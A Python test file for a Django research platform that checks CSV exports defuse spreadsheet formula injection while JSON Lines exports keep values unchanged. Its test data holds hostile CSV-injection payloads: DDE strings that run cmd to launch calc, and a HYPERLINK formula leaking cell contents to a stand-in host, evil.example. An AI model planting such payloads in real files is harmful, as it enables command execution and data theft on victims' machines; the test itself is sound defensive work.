"""A study's CSV tables never carry a cell a spreadsheet would run: a verdict reason, a message and an
exit answer typed as formulas come out with an apostrophe in front (shown as text, not run), in the
researcher's download and in `manage.py study export`; the JSON Lines tables keep them as typed."""

import csv
import io
import json
from io import StringIO

from django.core.management import call_command

from arena.models import Message
from studies.models import SurveyAnswer

from .helpers import game_for, player_client, study_make

REASON = "=1+1+cmd|' /C calc'!A0"
MESSAGE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0"


def hostile_study():
    from arena import services as arena
    from studies import services

    study = study_make(human_witness_share=0.0)
    _, participant = player_client(study)
    game = game_for(participant)
    conversation = game.interrogation.conversations.get()
    arena.message_post(
        conversation_id=conversation.pk,
        sender_role=Message.Role.INTERROGATOR,
        text=MESSAGE,
        user=conversation.interrogator,
    )
    arena.interrogation_end(interrogation_id=game.interrogation_id, reason="judge")
    services.game_verdict(game=game, participant=participant, choice="machine", confidence=75, reason=REASON)
    SurveyAnswer.objects.create(participant=participant, phase=SurveyAnswer.Phase.EXIT, key="strategy", answer=ANSWER)
    return study


def cells(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text))]


def test_the_csv_downloads_defuse_formulas_and_the_json_lines_keep_them(client, cast):
    study = hostile_study()
    client.force_login(cast.olivia)

    def download(what: str, fmt: str) -> str:
        response = client.get(f"/studies/{study.pk}/export/{what}.{fmt}")
        assert response.status_code == 200
        return response.content.decode()

    assert "'" + REASON in cells(download("verdicts", "csv"), "reason")
    assert "'" + MESSAGE in cells(download("messages", "csv"), "text")
    assert "'" + ANSWER in cells(download("surveys", "csv"), "answer")
    for what, column in (("verdicts", "reason"), ("messages", "text"), ("surveys", "answer")):
        assert not any(value.startswith(("=", "+", "-", "@")) for value in cells(download(what, "csv"), column))

    assert REASON in [json.loads(line)["reason"] for line in download("verdicts", "jsonl").splitlines()]
    assert MESSAGE in [json.loads(line)["text"] for line in download("messages", "jsonl").splitlines()]
    assert ANSWER in [json.loads(line)["answer"] for line in download("surveys", "jsonl").splitlines()]


def test_the_export_command_writes_the_same_defused_csv(cast):
    study = hostile_study()
    out = StringIO()
    call_command("study", "export", str(study.pk), "--format", "csv", "--what", "verdicts", stdout=out)
    assert cells(out.getvalue(), "reason") == ["'" + REASON]
    out = StringIO()
    call_command("study", "export", str(study.pk), "--format", "csv", "--what", "surveys", stdout=out)
    assert "'" + ANSWER in cells(out.getvalue(), "answer")
